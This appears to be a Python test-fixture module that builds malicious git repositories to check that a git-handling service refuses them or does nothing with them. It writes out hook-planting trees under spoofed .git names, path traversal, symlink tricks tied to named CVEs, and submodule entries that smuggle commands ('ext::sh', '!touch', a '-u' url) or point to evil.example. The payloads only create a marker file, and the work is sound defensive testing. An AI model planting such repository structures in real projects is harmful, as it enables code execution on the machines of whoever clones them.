"""Repositories that attack whoever clones, checks out or serves them, named by what they try.

Each function writes into a `Repository` and leaves its tip on main. Whatever shell there is in them
creates the file `mark`, so that a test sees whether it ran.
"""

from __future__ import annotations

from typing import Callable

from fake.bare import Bare, Content, Entry, program, submodule, symlink
from fake.repositories import Repository

def script(mark: str) -> str:
    return f"#!/bin/sh\necho run > {mark}\n"


def _commit(repository: Repository, tree: str) -> None:
    repository.set_ref("refs/heads/main", repository.code.write_commit(tree, [], "Nothing to see here", 99))


def _flat(repository: Repository, entries: list[tuple[bytes, Content]]) -> None:
    """These names beside each other, in git's order but otherwise as they are."""
    def key(named: tuple[bytes, Content]) -> bytes:
        name, content = named
        return name + b"/" if isinstance(content, Entry) and content.mode == "40000" else name

    _commit(repository, repository.code.write_entries(sorted(entries, key=key)))


def _hooks(bare: Bare, mark: str) -> Content:
    """A directory that would be a git directory with hooks."""
    hook = program(script(mark))
    hooks = bare.write_entries([(b"post-checkout", hook), (b"post-merge", hook), (b"pre-commit", hook)])
    return Entry(bare.write_entries([
        (b"config", f'[core]\n\tfsmonitor = "{script(mark).splitlines()[1]}"\n'.encode()),
        (b"hooks", Entry(hooks.encode(), "40000")),
    ]).encode(), "40000")


def _named(name: bytes) -> Callable[[Repository, str], None]:
    """A tree with a git directory under some spelling of its name."""
    def make(repository: Repository, mark: str) -> None:
        _flat(repository, [(name, _hooks(repository.code, mark)), (b"README", b"hello\n")])

    return make


def _dotdot(repository: Repository, mark: str) -> None:
    inner = repository.code.write_entries([(b"escaped", b"outside\n")])
    _flat(repository, [(b"..", Entry(inner.encode(), "40000")), (b"README", b"hello\n")])


def _slash(repository: Repository, mark: str) -> None:
    _flat(repository, [(b"../../escaped", b"outside\n"), (b"README", b"hello\n")])


def _absolute(repository: Repository, mark: str) -> None:
    _flat(repository, [(mark.encode(), b"outside\n"), (b"README", b"hello\n")])


def _symlink_to_git(repository: Repository, mark: str) -> None:
    """A link to .git, and behind it, in a tree that has the same name twice, what shall be written there."""
    hooks = _hooks(repository.code, mark)
    _flat(repository, [(b"a", symlink(".git")), (b"a", hooks)])


def _symlink_out(repository: Repository, mark: str) -> None:
    """A link out of the working tree, and then a file through it."""
    inner = repository.code.write_entries([(b"escaped", b"outside\n")])
    _flat(repository, [(b"out", symlink("../../..")), (b"out", Entry(inner.encode(), "40000"))])


def _modules(text: str, path: bytes = b"sub") -> Callable[[Repository, str], None]:
    def make(repository: Repository, mark: str) -> None:
        _flat(repository, [(b".gitmodules", text.format(mark=mark).encode()), (path, submodule())])

    return make


def _modules_elsewhere(repository: Repository, mark: str) -> None:
    """CVE-2018-11235: the name leads to a tree of the repository itself, with hooks in it."""
    hooks = _hooks(repository.code, mark)
    tree = repository.code.write_entries([
        (b".gitmodules", b'[submodule "../../modules/evil"]\n\tpath = evil\n\turl = ./sub\n'),
        (b"evil", submodule()),
        (b"modules", Entry(repository.code.write_entries([(b"evil", hooks)]).encode(), "40000")),
    ])
    _commit(repository, tree)


def _case_clash(repository: Repository, mark: str) -> None:
    """CVE-2021-21300: a link and a directory that are one on a file system without case, with a filter."""
    inner = repository.code.write_entries([(b"post-checkout", program(script(mark)))])
    _flat(repository, [
        (b".gitattributes", b"A/* filter=lfs\n"),
        (b"A", Entry(inner.encode(), "40000")),
        (b"a", symlink(".git/hooks")),
    ])


def _submodule_case(repository: Repository, mark: str) -> None:
    """CVE-2024-32002: the submodule's path leads through a link that differs in case."""
    _flat(repository, [
        (b".gitmodules", b'[submodule "x/y"]\n\tpath = A/modules/x\n\turl = https://evil.example/hook.git\n'),
        (b"A", Entry(repository.code.write_entries([(b"modules", submodule())]).encode(), "40000")),
        (b"a", symlink(".git")),
    ])


def _attributes(repository: Repository, mark: str) -> None:
    """Filters, a merge driver and a text conversion, none of which is configured anywhere."""
    _flat(repository, [
        (b".gitattributes", b"* filter=evil diff=evil merge=evil text eol=crlf working-tree-encoding=UTF-16\n"),
        (b"README", b"hello\n"),
    ])


def _lfs(repository: Repository, mark: str) -> None:
    """A pointer, which shall stay one."""
    _flat(repository, [
        (b".gitattributes", b"*.bin filter=lfs diff=lfs merge=lfs -text\n"), (b".lfsconfig", b"[lfs]\n\turl = https://evil.example/\n"),
        (b"big.bin", b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 12345\n"),
    ])


def _bad_mode(repository: Repository, mark: str) -> None:
    _flat(repository, [(b"README", Entry(b"hello\n", "107777")), (b"run", Entry(script(mark).encode(), "104755"))])


def _link_objects(repository: Repository, mark: str) -> None:
    """CVE-2022-39253: objects/ of a local clone as a link to what is secret; here in the tree."""
    _flat(repository, [(b"HEAD", b"ref: refs/heads/main\n"), (b"objects", symlink("/etc")), (b"refs", symlink("/etc"))])


Attack = Callable[[Repository, str], None]

REFUSED: dict[str, Attack] = {
    "dot_git": _named(b".git"),
    "dot_git_upper": _named(b".GIT"),
    "dot_git_short": _named(b"git~1"),
    "dot_git_ignored": _named(b".g\xe2\x80\x8cit"),
    "dot_git_dot": _named(b".git."),
    "dot_git_space": _named(b".git "),
    "dot_git_stream": _named(b".git::$INDEX_ALLOCATION"),
    "dot": _named(b"."),
    "dotdot": _dotdot,
    "slash": _slash,
    "absolute": _absolute,
    "duplicate_link_to_git": _symlink_to_git,
    "duplicate_link_out": _symlink_out,
    "submodule_name": _modules_elsewhere,
    "submodule_url": _modules('[submodule "sub"]\n\tpath = sub\n\turl = -u./payload\n'),
    "submodule_path": _modules('[submodule "sub"]\n\tpath = -sub\n\turl = https://evil.example/a.git\n', b"-sub"),
    "submodule_update": _modules('[submodule "sub"]\n\tpath = sub\n\turl = https://evil.example/a.git\n\tupdate = !touch {mark}\n'),
}
"""Faults that git's own checks see when objects are received."""

HARMLESS: dict[str, Attack] = {
    "submodule_return": _modules('[submodule "sub"]\n\tpath = "sub\r"\n\turl = https://evil.example/a.git\n', b"sub\r"),
    "submodule_ext": _modules('[submodule "sub"]\n\tpath = sub\n\turl = ext::sh -c touch% {mark}\n'),
    "submodule_case": _submodule_case,
    "case_clash": _case_clash,
    "attributes": _attributes,
    "lfs": _lfs,
    "link_objects": _link_objects,
}
"""Sound objects, as far as git is concerned: whoever handles them must do nothing for them.

Whether git's checks refuse one of them differs from version to version; nothing may happen either way.
"""
